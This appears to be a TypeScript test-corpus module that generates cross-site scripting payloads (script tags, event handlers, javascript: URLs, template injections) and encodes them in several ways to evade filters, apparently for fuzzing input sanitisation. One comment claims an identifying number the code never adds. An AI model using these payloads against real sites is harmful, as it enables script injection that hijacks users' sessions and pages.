const run = 'xss()'

/** What runs where words are taken for a page: as a tag, an attribute, an address, a script, a style, a template. */
const seeds: readonly string[] = [
  ...[
    `<script>${run}</script>`,
    `<script src=data:,${run}></script>`,
    `<img src=x onerror=${run}>`,
    `<svg onload=${run}>`,
  ],
  ...[
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x>`,
    `<math href="javascript:${run}">x`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.${run}</script>">`,
    `<iframe src="javascript:${run}">`,
    `<object data="javascript:${run}">`,
  ],
  ...[
    `<embed src="javascript:${run}">`,
    `<video><source onerror=${run}>`,
    `<audio src=x onerror=${run}>`,
    `<body onload=${run}>`,
  ],
  ...[
    `<input autofocus onfocus=${run}>`,
    `<details open ontoggle=${run}>x`,
    `<marquee onstart=${run}>x`,
    `<style onload=${run}></style>`,
  ],
  ...[
    `<style>*{background:url(javascript:${run})}</style>`,
    `<link rel=stylesheet href="data:text/css,*{}" onload=${run}>`,
  ],
  ...[
    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    `<base href="javascript:${run}//">`,
    `<a href="javascript:${run}">x</a>`,
  ],
  ...[
    `<form action="javascript:${run}"><button autofocus>x`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  ],
  ...[
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `[x](javascript:${run})`,
    `![x](x" onerror="${run})`,
  ],
  ...[
    `';${run};//`,
    `";${run};//`,
    `\`;${run};//`,
    `\${${run}}`,
    `{{constructor.constructor('${run}')()}}`,
    `<%= ${run} %>`,
  ],
  ...[
    `"}</script><script>${run}</script>`,
    `]]><script>${run}</script>`,
    `\u2028${run}//`,
    `x" onmouseover="${run}" y="`,
  ],
  ...[`x' autofocus onfocus='${run}`, `expression(${run})`, `<!--[if gte IE 4]><script>${run}</script><![endif]-->`],
]

/** How the same is led past whoever looks for it. */
const disguises: readonly ((words: string) => string)[] = [
  (words) => words,
  (words) => words.toUpperCase().replaceAll('XSS()', run),
  (words) => `">${words}`,
  (words) => `'>${words}`,
  (words) => `</title></textarea></style></script>${words}`,
  (words) => `--><!-- -->${words}`,
  (words) => words.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (words) => words.replaceAll('<', '&#x3c;').replaceAll('(', '&#40;'),
  (words) => encodeURIComponent(words),
  (words) => words.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (words) => words.replaceAll(' ', '/'),
  (words) => words.replaceAll(' ', '\t').replace('script', 'scr\tipt'),
  (words) => words.replace('<script', '<scr<script>ipt'),
]

/** Each fits into the shortest field. */
const LONGEST = 118

/** All of them, or as many evenly chosen. They end in a number, by which a page shows which one stands there. */
export function hostileStrings(count = Number.POSITIVE_INFINITY): string[] {
  const all = disguises.flatMap((disguise) => seeds.map(disguise)).filter((words) => words.length <= LONGEST)
  const step = Math.max(1, Math.floor(all.length / count))
  return [...new Set(all)].filter((_, index) => index % step === 0).slice(0, count)
}
